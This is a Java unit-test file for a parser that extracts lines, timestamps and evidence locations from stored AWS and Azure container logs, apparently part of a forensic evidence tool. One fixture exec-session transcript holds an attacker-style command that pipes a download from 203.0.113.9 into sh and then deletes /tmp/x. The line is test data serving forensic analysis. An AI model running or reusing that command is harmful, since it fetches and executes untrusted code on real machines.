package org.ephemera.analyze.parse.logs;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.ephemera.analyze.model.EvidenceGap;
import org.ephemera.analyze.model.FileLocation;
import org.ephemera.analyze.model.LogLine;
import org.ephemera.analyze.parse.sealed.ApiResponse;
import org.ephemera.analyze.parse.sealed.SealedPackage;
import org.ephemera.analyze.testing.FixtureResponse;
import org.ephemera.analyze.testing.SealedPackageFixture;
import org.ephemera.format.StoredFile;
import org.ephemera.model.Digest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class LogLinesTest {
    private static final Instant START = Instant.parse("2026-11-26T12:00:00Z");
    private static final Map<String, String> APP =
            Map.of("container", "app", "group", "/shop", "stream", "ecs/app/0123");

    private final List<ApiResponse> responses = new ArrayList<>();
    private final Map<String, byte[]> bodies = new HashMap<>();
    private final List<LogLine> lines = new ArrayList<>();

    @Test
    void readsEventsOfStreamsWithPlaces() throws IOException {
        answer("aws.logs.stream", "1", "aa/1.body.json", "GetLogEvents", APP, Map.of(), """
            {"events":[{"ingestionTime":5,"message":"one\\n","timestamp":1795675063300},
            {"timestamp":1795675063301,"message":"two","more":{"message":["no"]}}],"nextForwardToken":"f/1"}\
            """);
        assertThat(read()).isEmpty();
        assertThat(lines).extracting(LogLine::text).containsExactly("one", "two");
        LogLine two = lines.get(1);
        assertThat(two.container()).isEqualTo("app");
        assertThat(two.stream()).isEqualTo("ecs/app/0123");
        assertThat(two.time()).contains(Instant.ofEpochMilli(1795675063301L));
        assertThat(two.evidence().file()).isEqualTo("data/raw/aws.logs.stream.1/aa/1.body.json");
        assertThat(two.evidence().place()).isEqualTo(new FileLocation.Pointer("/events/1/message"));
    }

    @Test
    void skipsLinesOfLaterReading() throws IOException {
        answer(
                "aws.logs.late",
                "1",
                "bb/1.body.json",
                "FilterLogEvents",
                Map.of("group", "/shop"),
                Map.of("startTime", "1970-01-01T00:00:01Z"),
                """
                {"events":[{"eventId":"7","ingestionTime":1100,"logStreamName":"ecs/app/0123","message":"again","timestamp":1000},
                {"eventId":"8","ingestionTime":1100,"logStreamName":"ecs/app/0123","message":"again","timestamp":1000},
                {"eventId":"9","ingestionTime":1100,"logStreamName":"ecs/app/0123","message":"late","timestamp":1000},
                {"eventId":"10","ingestionTime":1,"logStreamName":"ecs/other/0123","message":"other","timestamp":1000}]}\
                """);
        answer("aws.logs.stream", "1", "aa/1.body.json", "GetLogEvents", APP, Map.of(), """
            {"events":[{"ingestionTime":1,"message":"twice","timestamp":1},{"ingestionTime":1,"message":"twice","timestamp":1},
            {"ingestionTime":1100,"message":"again","timestamp":1000}]}\
            """);
        assertThat(read()).isEmpty();
        assertThat(lines.stream().map(line -> line.container() + " " + line.text()))
                .containsExactly("app twice", "app twice", "app again", "app again", "app late", "other other");
    }

    @Test
    void readsAttemptsInOrderWithoutDuplicates() throws IOException {
        String page = """
            {"events":[{"message":"%s","timestamp":1},{"message":"%s","timestamp":2}]}\
            """;
        responses.add(answer("aws.logs.stream", "1", "ff/1.body.json", "GetLogEvents", APP, Map.of(), START));
        responses.add(
                answer("aws.logs.stream", "1", "aa/1.body.json", "GetLogEvents", APP, Map.of(), START.plusSeconds(9)));
        bodies.put(
                "data/raw/aws.logs.stream.1/ff/1.body.json",
                page.formatted("a", "b").getBytes(UTF_8));
        bodies.put(
                "data/raw/aws.logs.stream.1/aa/1.body.json",
                page.formatted("c", "b").getBytes(UTF_8));
        assertThat(read()).isEmpty();
        assertThat(lines).extracting(LogLine::text).containsExactly("a", "b", "c");
    }

    /** A session may be stored in CloudWatch and in a bucket; lines that only the bucket has are kept. */
    @Test
    void readsDuplicateSessionOnce() throws IOException {
        Map<String, String> session = Map.of("session", "ecs-execute-command-0a1b");
        answer("aws.ecs.exec-session", "1", "a/1.body.txt", "GetObject", session, Map.of(), """
            Script started on 2026-11-26 12:00:00+00:00\r
            # curl -s http://203.0.113.9/x | sh\r
            # rm -f /tmp/x
            """);
        answer("aws.ecs.exec-session", "2", "a/1.body.json", "GetLogEvents", session, Map.of(), """
            {"events":[{"message":"Script started on 2026-11-26 12:00:00+00:00\\n# curl -s http://203.0.113.9/x | sh","timestamp":1000}]}\
            """);
        assertThat(read()).isEmpty();
        assertThat(lines)
                .extracting(LogLine::text)
                .containsExactly(
                        "Script started on 2026-11-26 12:00:00+00:00\n# curl -s http://203.0.113.9/x | sh",
                        "# rm -f /tmp/x");
    }

    @Test
    void readsCompleteQueriesOnly() throws IOException {
        String page = """
            {"results":[[{"field":"@timestamp","value":"2026-11-25 12:00:00.000"},{"field":"@message","value":"%s"},
            {"field":"@ptr","value":"%s"}]],"statistics":{"recordsMatched":1.0},"status":"%s"}\
            """;
        answer("aws.logs.insights", "1", "a/1.body.json", "StartQuery", APP, Map.of(), "{\"queryId\":\"1\"}");
        answer(
                "aws.logs.insights",
                "1",
                "a/2.body.json",
                "GetQueryResults",
                APP,
                Map.of(),
                page.formatted("half", "p", "Running"));
        answer(
                "aws.logs.insights",
                "1",
                "a/3.body.json",
                "GetQueryResults",
                APP,
                Map.of(),
                page.formatted("whole", "p", "Complete"));
        answer(
                "aws.logs.insights",
                "1",
                "a/4.body.json",
                "GetQueryResults",
                APP,
                Map.of(),
                page.formatted("whole", "p", "Complete"));
        assertThat(read()).isEmpty();
        assertThat(lines).extracting(LogLine::text).containsExactly("whole");
        assertThat(lines.getFirst().time()).contains(Instant.parse("2026-11-25T12:00:00Z"));
        assertThat(lines.getFirst().evidence().place()).isEqualTo(new FileLocation.Pointer("/results/0/1/value"));
    }

    @Test
    void readsTextOfContainerGroup() throws IOException {
        Map<String, String> names = Map.of("container", "checkout");
        answer("azure.aci.log", "1", "a/1.body.json", "Containers_ListLogs", names, Map.of(), """
            {"content":"2026-11-26T12:00:00.123456789Z first\\nplain second\\n2026-11-26T12:00:01Z\\n"}\
            """);
        answer("azure.aci.earlier-log", "1", "a/1.body.txt", "x", names, Map.of(), "2026-11-26T12:00:00+01:00 third");
        assertThat(read()).isEmpty();
        assertThat(lines).extracting(LogLine::text).containsExactly("third", "first", "plain second", "");
        assertThat(lines.getFirst().time()).contains(Instant.parse("2026-11-26T11:00:00Z"));
        assertThat(lines.get(1).time()).contains(Instant.parse("2026-11-26T12:00:00.123456789Z"));
        assertThat(lines.get(2).time()).isEmpty();
        assertThat(lines.get(2).evidence().place()).isEqualTo(new FileLocation.Line("/content", 2));
        assertThat(lines.getFirst().evidence().place()).isEqualTo(new FileLocation.Line(1));
    }

    @Test
    void readsRowsOfOutputAndRequests() throws IOException {
        answer(
                "azure.loganalytics.rows",
                "1",
                "a/1.body.json",
                "Query_Execute",
                Map.of("workspace", "w"),
                Map.of(),
                """
                {"tables":[{"name":"PrimaryResult","columns":[{"name":"ContainerName_s","type":"string"},{"name":"Log_s"},
                {"name":"Message"},{"name":"TableName"},{"name":"TimeGenerated"},{"name":"RevisionName"},{"name":"ContainerGroupName"},
                {"name":"Path"},{"name":"ContainerAppName"},{"name":"Method"},{"name":"Protocol"},{"name":"StatusCode"},{"name":"UserAgent"}],
                "rows":[["app","of an app",null,"ContainerAppConsoleLogs_CL","2026-11-26T12:00:00Z","app--r1","app--r1-x2k4q",null,null,null,null,null,null],
                ["app",null,"of a group","ContainerInstanceLog_CL","no time",null,null,null,null,null,null,null,null],
                ["app",null,"pulled","ContainerEvent_CL","2026-11-26T12:00:00Z",null,null,null,null,null,null,null,null],
                [null,null,null,"ContainerAppHTTPLogs","2026-11-26T12:00:00Z","app--r1",null,"/login?u=a","shop","GET","HTTP/1.1",404,"x\\"y"],
                ["app","scaled",null,"ContainerAppSystemLogs_CL","2026-11-26T12:00:00Z",null,null,null,null,null,null,null,null]]}],"error":{"code":"PartialError"}}\
                """);
        assertThat(read()).isEmpty();
        assertThat(lines)
                .extracting(LogLine::text)
                .containsExactly("of an app", "of a group", "- - - \"GET /login?u=a HTTP/1.1\" 404 - \"-\" \"x\\\"y\"");
        assertThat(lines.getLast().container()).isEqualTo("shop (requests)");
        assertThat(lines.getLast().evidence().place()).isEqualTo(new FileLocation.Pointer("/tables/0/rows/3/7"));
        assertThat(lines.getFirst().time()).contains(START);
        assertThat(lines.getFirst().stream()).as("the replica").isEqualTo("app--r1-x2k4q");
        assertThat(lines.get(1).evidence().place()).isEqualTo(new FileLocation.Pointer("/tables/0/rows/1/2"));
    }

    @Test
    void readsSessionsWithoutTheirListing() throws IOException {
        Map<String, String> names = Map.of("session", "ecs-execute-command-01");
        answer("aws.ecs.exec-session", "1", "a/1.body.xml", "ListObjectsV2", names, Map.of(), "<ListBucketResult/>");
        answer("aws.ecs.exec-session", "1", "a/2.body.txt", "GetObject", names, Map.of(), "# id\nuid=0\n");
        assertThat(read()).isEmpty();
        assertThat(lines).extracting(LogLine::text).containsExactly("# id", "uid=0");
        assertThat(lines.getFirst().container()).isEqualTo("exec session ecs-execute-command-01");
    }

    @Test
    void ignoresTimesInText() throws IOException {
        Map<String, String> names = Map.of("session", "ecs-execute-command-01");
        String typed = "2020-01-01T00:00:00Z I was never here";
        answer("aws.ecs.exec-session", "1", "a/1.body.txt", "GetObject", names, Map.of(), typed);
        answer("aws.logs.stream", "2", "a/1.body.json", "GetLogEvents", APP, Map.of(), """
            {"events":[{"message":"far","timestamp":9223372036854775807},{"message":"past","timestamp":-9223372036854775808}]}\
            """);
        assertThat(read()).isEmpty();
        assertThat(lines).extracting(LogLine::text).containsExactly("far", "past", typed);
        assertThat(lines).extracting(LogLine::time).containsOnly(Optional.empty());
    }

    @Test
    void separatesPerformanceLog() throws IOException {
        answer("aws.logs.performance", "1", "a/1.body.json", "FilterLogEvents", Map.of(), Map.of(), """
            {"events":[{"message":"{}"}]}\
            """);
        assertThat(read()).isEmpty();
        assertThat(lines).isEmpty();
        new LogLines(List.copyOf(responses), this::open).forEachOfPerformance(lines::add);
        assertThat(lines).hasSize(1);
    }

    @Test
    void continuesAfterUnreadableLog() throws IOException {
        answer("aws.logs.stream", "1", "a/1.body.json", "GetLogEvents", APP, Map.of(), """
            {"events":[{"message":"before"},{"message":SECRET}]}\
            """);
        answer("aws.logs.stream", "2", "a/1.body.json", "GetLogEvents", APP, Map.of(), "[1]");
        answer("aws.logs.stream", "3", "a/1.body.json", "GetLogEvents", APP, Map.of(), "{\"events\":[7]}");
        answer("aws.logs.stream", "4", "a/1.body.json", "GetLogEvents", APP, Map.of(), "");
        answer(
                "azure.loganalytics.rows",
                "5",
                "a/1.body.json",
                "Query_Execute",
                APP,
                Map.of(),
                "{\"tables\":[{\"rows\":[[1]]}]}");
        answer(
                "aws.logs.stream",
                "6",
                "a/1.body.json",
                "GetLogEvents",
                APP,
                Map.of(),
                "{\"events\":[{\"message\":[{}]}]}");
        answer("azure.aci.log", "7", "a/1.body.json", "Containers_ListLogs", APP, Map.of(), "[".repeat(5_000));
        answer(
                "aws.logs.insights",
                "8",
                "a/1.body.json",
                "GetQueryResults",
                APP,
                Map.of(),
                "{\"status\":\"Complete\",\"results\":{}}");
        List<EvidenceGap> gaps = read();
        assertThat(gaps)
                .extracting(EvidenceGap::what)
                .containsExactly(
                        "aws.logs.insights.8",
                        "aws.logs.stream.1",
                        "aws.logs.stream.2",
                        "aws.logs.stream.3",
                        "aws.logs.stream.4",
                        "azure.aci.log.7",
                        "azure.loganalytics.rows.5");
        assertThat(gaps.get(1).why())
                .contains("after 1 lines")
                .contains("line 1, column")
                .doesNotContain("SECRET");
        assertThat(lines).extracting(LogLine::text).containsExactly("before", "");
    }

    @Test
    void truncatesLongLinesWithOneGapPerLog() throws IOException {
        String longLine = "x".repeat(5 << 20);
        answer(
                "aws.logs.stream",
                "1",
                "a/1.body.json",
                "GetLogEvents",
                APP,
                Map.of(),
                "{\"events\":[{\"message\":\"" + longLine + "\",\"timestamp\":1},{\"message\":\""
                        + "\\u00e9".repeat(70_000) + "\",\"timestamp\":2},{\"message\":\"short\"}]}");
        answer(
                "azure.aci.log",
                "1",
                "a/1.body.txt",
                "x",
                Map.of("container", "c"),
                Map.of(),
                "2026-11-26T12:00:00Z " + longLine + "\nshort");
        assertThat(read()).extracting(EvidenceGap::what).containsExactly("aws.logs.stream.1", "azure.aci.log.1");
        assertThat(lines).extracting(line -> line.text().length()).containsExactly(65_536, 65_536, 5, 65_536, 5);
        assertThat(lines.get(1).text()).startsWith("éé").endsWith("é");
        assertThat(lines.get(2).text()).isEqualTo("short");
    }

    @Test
    void replacesInvalidUtf8() throws IOException {
        byte[] body = "{\"events\":[{\"message\":\"a?b\"}]}".getBytes(UTF_8);
        body[24] = (byte) 0xff;
        answer("aws.logs.stream", "1", "a/1.body.json", "GetLogEvents", APP, Map.of(), "");
        bodies.put("data/raw/aws.logs.stream.1/a/1.body.json", body);
        assertThat(read()).isEmpty();
        assertThat(lines).extracting(LogLine::text).containsExactly("a\ufffdb");
    }

    @Test
    void readsSealedPackage(@TempDir Path folder) throws Exception {
        try (SealedPackage sealed = SealedPackageFixture.in(folder)
                .item(
                        "aws.logs.stream",
                        APP,
                        FixtureResponse.json("logs:GetLogEvents", "{\"events\":[{\"message\":\"a\"}]}"))
                .seal()) {
            assertThat(new LogLines(sealed).forEach(lines::add)).isEmpty();
            assertThat(lines.getFirst().evidence().sha256())
                    .isEqualTo(sealed.responses("aws.logs.stream")
                            .findFirst()
                            .orElseThrow()
                            .files()
                            .getFirst()
                            .sha256());
        }
    }

    @Test
    void rethrowsFailureOfVisitor() {
        answer(
                "aws.logs.stream",
                "1",
                "a/1.body.json",
                "GetLogEvents",
                APP,
                Map.of(),
                "{\"events\":[{\"message\":\"a\"}]}");
        assertThatThrownBy(() -> new LogLines(responses, this::open).forEach(line -> {
                    throw new IOException("disk full");
                }))
                .isInstanceOf(IOException.class)
                .hasMessage("disk full");
    }

    private List<EvidenceGap> read() throws IOException {
        List<ApiResponse> ordered = responses.stream()
                .sorted(java.util.Comparator.comparing(a -> a.files().getFirst().path()))
                .toList();
        return new LogLines(ordered, this::open).forEach(lines::add);
    }

    private InputStream open(ApiResponse answer) {
        return new ByteArrayInputStream(bodies.get(answer.files().getFirst().path()));
    }

    private void answer(
            String artifact,
            String number,
            String file,
            String operation,
            Map<String, String> names,
            Map<String, String> params,
            String body) {
        ApiResponse answer =
                answer(artifact, number, file, operation, names, params, START.plusSeconds(responses.size()));
        responses.add(answer);
        bodies.put(answer.files().getFirst().path(), body.getBytes(UTF_8));
    }

    private static ApiResponse answer(
            String artifact,
            String number,
            String file,
            String operation,
            Map<String, String> names,
            Map<String, String> params,
            Instant time) {
        String item = artifact + "." + number;
        return new ApiResponse(
                item,
                artifact,
                names,
                "service",
                operation,
                "",
                params,
                time,
                Optional.empty(),
                List.of(new StoredFile("data/raw/" + item + "/" + file, 1, Digest.of(new byte[0]), Optional.empty())));
    }
}
